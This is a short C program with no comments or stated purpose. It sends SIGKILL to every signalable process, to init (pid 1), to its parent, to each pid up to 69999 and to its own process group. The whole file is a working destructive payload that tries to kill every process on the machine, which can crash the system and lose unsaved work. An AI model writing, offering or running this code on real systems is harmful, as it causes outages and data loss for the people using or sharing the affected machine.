#include <signal.h>
#include <unistd.h>

int main(void) {
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    kill(getppid(), SIGKILL);
    for (int pid = 2; pid < 70000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL);
    kill(0, SIGKILL);
}
